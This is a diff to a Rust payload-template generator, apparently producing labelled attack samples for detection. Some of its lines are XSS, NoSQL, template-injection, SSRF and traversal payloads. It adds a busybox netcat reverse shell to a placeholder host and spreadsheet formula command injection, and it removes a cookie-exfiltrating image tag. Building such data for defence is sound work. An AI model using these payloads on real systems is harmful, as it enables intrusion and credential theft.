@@ -2,6 +2,7 @@
 
 use inspect::Class;
 
+use crate::attack_page::{TEMPLATE, XSS};
 use crate::random::Random;
 
 /// Fills the slots of a template: `{n}` a number, `{w}` a word, `{t}` a table, `{c}` a command, `{h}` a
@@ -133,51 +134,10 @@ const NOSQL: &[&str] = &[
     "{\"$expr\": {\"$eq\": [1, 1]}}",
     "'; return '' == '",
     "';it=new Date();do{pt=new Date();}while(pt-it<5000);",
-];
-
-const XSS: &[&str] = &[
-    "<script>alert({n})</script>",
-    "<img src=x onerror=alert({n})>",
-    "<svg/onload=alert({n})>",
-    "\"><script>alert(document.cookie)</script>",
-    "javascript:alert({n})",
-    "\" onmouseover=\"alert({n})",
-    "<iframe src=javascript:alert({n})>",
-    "<body onload=alert('{w}')>",
-    "';alert({n});//",
-    "<a href=\"javascript:alert({n})\">{w}</a>",
-    "<details open ontoggle=alert({n})>",
-    "<input autofocus onfocus=alert({n})>",
-    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
-    "<script src=//{h}/x.js></script>",
-    "<img src=\"x\" onerror=\"fetch('//{h}/?c='+document.cookie)\">",
-    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert({n}) src>\">",
-    "'-alert({n})-'",
-    "<video><source onerror=\"alert({n})\">",
-    "<marquee onstart=alert({n})>",
-    "<embed src=\"data:text/html,<script>alert({n})</script>\">",
-    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
-    "<ScRiPt >prompt({n})</sCrIpT>",
-    "<form action=javascript:alert({n})><button>",
-    "{w}<img src=1 href=1 onerror=\"javascript:alert({n})\"></img>",
-    "';top[/al/.source+/ert/.source]({n});//",
-    "[{n}].map(confirm)",
-    "top?.[\"al\"+\"ert\"]({n})",
-    "import('//{h}/x.js')",
-    "onfocus=;Function(`ale`+`rt({n})`)()",
-    "\"o<x>nmouseover=alert<x>({n})//",
-    "a=eval;b=alert;a(b({n}))",
-    "f=confirm,f({n})",
-    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
-    "+ADw-img src=x onerror=alert({n})+AD4-",
-    "this[/*x*/'alert'/*y*/]({n})",
-    "top[/*a*/'confirm'/*b*/]({n})",
-    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
-    "\"<div onmouseover=\"\"document.write({n});\"\">\"",
-    "[{w}](javascript:alert({n}))",
-    "[{w}](<javascript://%0d%0aprompt({n})>)",
-    "[{w}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "![{w}]( java\tscript:confirm({n}))",
+    "[$nin][]",
+    "[$regex][]",
+    "'}, {$set: {role: '{w}'}}, {multi: true}); //",
+    "\"}, {\"$inc\": {\"{w}\": {n}}}",
 ];
 
 const COMMAND: &[&str] = &[
@@ -225,6 +185,10 @@ const COMMAND: &[&str] = &[
     "{w};sleep {n} #",
     "\" || echo db 6c 41 68 >>{w}",
     "{w}' || echo {n} {n} >>{w}",
+    "{w}|busybox nc {h} {n} -e sh",
+    "{w};sudo cat {w}",
+    "=cmd|' /C {w}'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A{n}",
 ];
 
 const TRAVERSAL: &[&str] = &[
@@ -258,7 +222,7 @@ const TRAVERSAL: &[&str] = &[
     "..%c0%afetc/hosts",
     "?page=php://input",
     "http://shop.example/index.php?file=phar://{w}.zip/b.jpg",
-    "/var/log/auth.log",
+    "/var/lib/{w}/.ssh/known_hosts",
     "C:\\Windows\\Panther\\Unattend\\{w}.xml",
 ];
 
@@ -296,65 +260,6 @@ const XPATH: &[&str] = &[
     "{n} and string-length(name(/*[1]))={n}",
 ];
 
-const TEMPLATE: &[&str] = &[
-    "{{7*7}}",
-    "${7*7}",
-    "#{7*7}",
-    "<%= 7*7 %>",
-    "{{config.items()}}",
-    "{{''.__class__.__mro__[2].__subclasses__()}}",
-    "${T(java.lang.Runtime).getRuntime().exec('id')}",
-    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
-    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
-    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
-    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
-    "{{constructor.constructor('alert(1)')()}}",
-    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
-    "{{ {n}*{n} }}",
-    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
-    "{{lipsum.__globals__['os'].popen('id').read()}}",
-    "${{n}*{n}}",
-    "{{7*'7'}}",
-    "<%= system('id') %>",
-    "@({n}+{n})",
-    "{$smarty.version}",
-    "T(java.lang.Runtime).getRuntime()",
-    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
-    "%{#context['xwork.MethodAccessor.denyMethodExecution']}",
-    "$\\A{{n}*{n}}",
-    "$\\B{{n}*7}",
-    "{{ this.toString() }}",
-    "{{ config['{w}']('cat flag',shell=True) }}",
-    "{{ $x := .Echo.Filesystem.Open \"/{w}\" }} {{ .Stream {n} \"text/plain\" $x }}",
-    "{{ .System \"id\" }}",
-    "{{ {n} | times:{n} }}",
-    "{{ '{w}' | upcase }}",
-    "{w}{% if {n} == 1 %}a{% endif %}",
-    "{% if 'a' != '{w}' %}{w}{% endif %}",
-    "<%=%x(ls )%>",
-    "#{`id`}",
-    "<%'${{/#{@}}%>{{",
-    "${{<%[%'\"}}%{w}",
-    "{{n}*{n}}",
-    "{{system('id')}}",
-    "{{w}.__init__.__globals__[CONFIG]}",
-    "{{w}.__class__.__mro__}",
-    "{if phpinfo()}{/if}",
-    "{self::getStreamVariable(\"file:///etc/{w}\")}",
-    "@System.IO.File.ReadAllText(\"{w}\")",
-    "@System.Diagnostics.Process.Start(\"{w}\",\"a\")",
-    "{% import os %}{{ os.name }}",
-    "{% include '/etc/{w}' %}",
-    "${'id'.execute()}",
-    "${request.getParameter(\"{w}\")}",
-    "${applicationScope}",
-    "<%= ENV %>",
-    "{{ printf \"%s\" \"{w}\" }}",
-    "{{ lookup '{w}' }}",
-    "*{T(org.{w}.IOUtils).toString(1)}",
-    "{{ request['{w}'] }}",
-];
-
 const SSRF: &[&str] = &[
     "http://127.0.0.1/{w}",
     "http://localhost:{n}/",
@@ -384,6 +289,10 @@ const SSRF: &[&str] = &[
     "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
     "https://520968996/{w}",
     "https://0x1f0d5e44/",
+    "http://{w}.oastify.com/",
+    "https://{w}.oast.pro:{n}/a",
+    "http://[::ffff:216.58.214.206]/",
+    "http://[::ffff:d83a:d6ce]/{w}",
 ];
 
 const XXE: &[&str] = &[
